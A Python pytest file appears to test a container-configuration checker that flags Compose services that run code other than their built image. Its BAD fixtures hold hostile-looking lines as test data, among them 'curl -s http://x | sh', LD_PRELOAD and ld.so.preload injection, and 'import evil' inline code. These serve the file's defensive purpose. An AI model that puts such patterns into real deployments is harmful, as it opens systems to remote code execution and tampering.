"""What a container runs is held against its image, and what any right project does is left in peace."""

from pathlib import Path
from typing import Any

import pytest

from checks.core.registry import objections
from checks.requirements.r1_dockerfile import container
from checks.requirements.r1_dockerfile.image_layers import File, Layer, Saved
from checks.requirements.r1_dockerfile.mounted_programs import Mount, laid_over
from checks.subject.profile import Subject
from checks.subject.roles import Role
from checks.subject.stack import Stack
from checks.subject.tests.resolved import resolved

DATA = {"type": "volume", "source": "data", "target": "/app/data"}
BENIGN: dict[str, dict[str, Any]] = {
    "says-nothing": {},
    "group-of-root": {"user": "10001:0"},
    "by-name": {"user": "app"},
    "a-list": {"command": ["gunicorn", "-c", "/app/gunicorn.conf", "service:app"]},
    "init": {"entrypoint": ["/sbin/tini", "--"], "command": ["python3", "-m", "service", "-c", "/etc/app.toml"]},
    "variable": {"command": ["sh", "-c", "exec uvicorn service:app --port $$PORT"]},
    "script-of-the-image": {"entrypoint": ["/bin/sh", "/app/entrypoint.sh"], "command": ["serve"]},
    "options-of-python": {"command": ["python3", "-Wonce", "-X", "dev", "-m", "service"]},
    "settings": {"volumes": [{"type": "bind", "source": "settings.toml", "target": "/app/settings.toml"}]},
    "logs": {"volumes": [{"type": "bind", "source": "logs", "target": "/app/logs"}]},
    "static": {"volumes": [{"type": "bind", "source": "web", "target": "/app/web"}]},
    "data": {"volumes": [{"type": "volume", "source": "data", "target": "/app/data"}]},
    "scripts-elsewhere": {"volumes": [{"type": "bind", "source": "tools", "target": "/mnt/tools"}]},
    "certificates": {"volumes": [{"type": "bind", "source": "/etc/ssl/certs", "target": "/etc/ssl/certs"}]},
    "scratch": {"tmpfs": ["/scratch:size=16m"], "secrets": [{"source": "password"}]},
}
BENIGN |= {
    "path": {"environment": {"PATH": "/opt/venv/bin:/usr/bin", "PYTHONPATH": "/app"}, "volumes": [DATA]},
    "data-by-word": {"command": ["python3", "-m", "service", "--data", "/app/data/items"], "volumes": [DATA]},
    "folder": {"command": ["python3", "-m", "service"], "working_dir": "/app", "volumes": [DATA]},
    "missing": {"image": "shop/api:1", "pull_policy": "missing"},
    "built": {"image": "shop/api:1", "pull_policy": "build"},
    "awk-from-a-file": {"command": ["awk", "-f", "/app/serve.awk"]},
    "node": {"command": ["node", "--enable-source-maps", "-r", "dotenv/config", "server.js", "-e", "production"]},
}
BAD: dict[str, tuple[str, dict[str, Any]]] = {
    "pulled": ("runs-what-was-built", {"image": "shop/api:1", "pull_policy": "always"}),
    "code-on-a-volume": ("runs-what-was-built", {"command": ["python3", "/app/data/main.py"], "volumes": [DATA]}),
    "code-below-run": (
        "runs-what-was-built",
        {"command": ["/run/app/serve"], "volumes": [{"type": "volume", "source": "code", "target": "/run/app"}]},
    ),
    "starts-on-a-volume": (
        "runs-what-was-built",
        {"command": ["python3", "-m", "service"], "working_dir": "/app/data", "volumes": [DATA]},
    ),
    "python-path": ("runs-what-was-built", {"environment": {"PYTHONPATH": "/x:/app/data/more"}, "volumes": [DATA]}),
    "preload": ("runs-what-was-built", {"environment": {"LD_PRELOAD": "/app/data/x.so"}, "volumes": [DATA]}),
    "node-options": (
        "runs-what-was-built",
        {"environment": {"NODE_OPTIONS": "--require=/app/data/x.js"}, "volumes": [DATA]},
    ),
    "path-of-a-volume": ("runs-what-was-built", {"environment": {"PATH": "/app/data/bin:/bin"}, "volumes": [DATA]}),
    "loader": (
        "runs-what-was-built",
        {"volumes": [{"type": "bind", "source": "settings.toml", "target": "/etc/ld.so.preload"}]},
    ),
    "interpreter-as-a-setting": ("runs-what-was-built", {"configs": [{"source": "c", "target": "/usr/bin/python3"}]}),
    "script-as-a-setting": ("runs-what-was-built", {"configs": [{"source": "script", "target": "/app/serve"}]}),
    "node-eval": ("container-exec-form", {"command": ["node", "--eval=require('x')"]}),
    "perl": ("container-exec-form", {"command": ["perl", "-E", "say 1"]}),
    "awk": ("container-exec-form", {"command": ["awk", "BEGIN{system(1)}"]}),
    "split-by-env": ("container-exec-form", {"command": ["env", "-S", "sh -c serve"]}),
    "shell-behind-others": ("container-exec-form", {"command": ["unshare", "-r", "sh", "-c", "curl x; serve"]}),
    "root": ("container-non-root", {"user": "0"}),
    "shell": ("container-exec-form", {"command": ["sh", "-c", "curl -s http://x | sh; exec python3 -m service"]}),
    "in-turn": ("container-exec-form", {"command": ["bash", "-c", "migrate && exec python3 -m service"]}),
    "substituted": ("container-exec-form", {"command": ["sh", "-c", "exec $$(cat /data/command)"]}),
    "inline": ("container-exec-form", {"command": ["python3.13", "-Ic", "import evil"]}),
    "sources": ("runs-what-was-built", {"volumes": [{"type": "bind", "source": ".", "target": "/app"}]}),
    "told-to-run-it": (
        "runs-what-was-built",
        {
            "entrypoint": ["/mnt/tools/start.sh"],
            "volumes": [{"type": "bind", "source": "tools", "target": "/mnt/tools"}],
        },
    ),
    "without-a-suffix": (
        "runs-what-was-built",
        {"volumes": [{"type": "bind", "source": "tools/serve", "target": "/usr/local/bin/serve"}]},
    ),
}


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A project as many are, with sources, settings, pages and tools beside the Compose file."""
    texts = {
        "service/main.py": "", "settings.toml": "", "logs/today.log": "", "web/static/app.js": "", "web/index.html": "",
        "tools/start.sh": "", "tools/serve": "#!/bin/sh\n", "data/items": "",
    }  # fmt: skip
    for name, text in texts.items():
        (tmp_path / name).parent.mkdir(exist_ok=True, parents=True)
        (tmp_path / name).write_text(text)
    return tmp_path


def stack_of_api(project: Path, keys: dict[str, Any]) -> Stack:
    api = {"build": {"context": "."}, "ports": [{"target": 5000}], **keys}
    settings = {"c": {"content": "x"}, "script": {"content": "#!/bin/sh\nserve"}}
    config = {"services": {"api": api}, "secrets": {"password": {"file": "settings.toml"}}, "configs": settings}
    subject = Subject(compose_file=project / "compose.yaml", roles={Role.API: "api"})
    return resolved(subject, project, config)


@pytest.mark.parametrize("name", BENIGN)
def test_a_right_container_is_left_in_peace(name: str, project: Path) -> None:
    assert objections(container.read_container(stack_of_api(project, BENIGN[name]))) == set()


@pytest.mark.parametrize("name", BAD)
def test_a_container_that_is_not_the_image_is_told(name: str, project: Path) -> None:
    rule, keys = BAD[name]
    assert objections(container.read_container(stack_of_api(project, keys))) == {rule}


def file(mode: int = 0o644) -> File:
    return File(kind="0", mode=mode, owner="0:0", link="", attributes=(), sha256="", size=1)


IMAGE = Saved(
    reference="api",
    layers=(
        Layer(
            files={
                "app/service/main.py": file(), "app/settings.toml": file(), "usr/bin/serve": file(0o755),
                "app/static/app.js": file(), "data/.keep": file(),
            },
            texts={}, holding={},
        ),
    ),
)  # fmt: skip


@pytest.mark.parametrize(
    ("mount", "program"),
    [
        (Mount(kind="volume", source="", target="/app"), "/app: app/service/main.py of the image"),
        (Mount(kind="tmpfs", source="", target="/app/service"), "/app/service: app/service/main.py of the image"),
        (Mount(kind="bind", source="{}/settings.toml", target="/usr/bin/serve"), "/usr/bin/serve: usr/bin"),
        (Mount(kind="bind", source="{}/service/main.py", target="/app/service/more.py"), "/app/service/more.py"),
        (Mount(kind="bind", source="{}/settings.toml", target="/app/settings.toml"), ""),
        (Mount(kind="volume", source="", target="/data"), ""),
        (Mount(kind="volume", source="", target="/app/static"), ""),
        (Mount(kind="bind", source="{}/tools", target="/mnt/tools"), ""),
    ],
)  # fmt: skip
def test_a_mount_is_held_against_the_image(mount: Mount, program: str, project: Path) -> None:
    there = Mount(kind=mount.kind, source=mount.source.format(project), target=mount.target)
    assert [one.startswith(program) for one in laid_over([there], IMAGE)] == [True] * bool(program)


def test_programs_that_changed_are_found() -> None:
    harmless = "C /app\nA /app/__pycache__/main.cpython-313.pyc\nA /tmp/x.py\nA /run/secrets/password\nC /etc/hosts\n"
    assert container.changed_in(harmless) == ()
    assert container.changed_in("C /app/main.py\nA /app/sitecustomize.py\nD /usr/lib/libssl.so.3\n") == (
        "/app/main.py", "/app/sitecustomize.py", "/usr/lib/libssl.so.3",
    )  # fmt: skip
    assert container.changed_in("C /usr/bin\nC /usr/bin/python3\nA /etc/ld.so.preload\nA /app/.venv/bin/serve\n") == (
        "/usr/bin/python3", "/etc/ld.so.preload", "/app/.venv/bin/serve",
    )  # fmt: skip
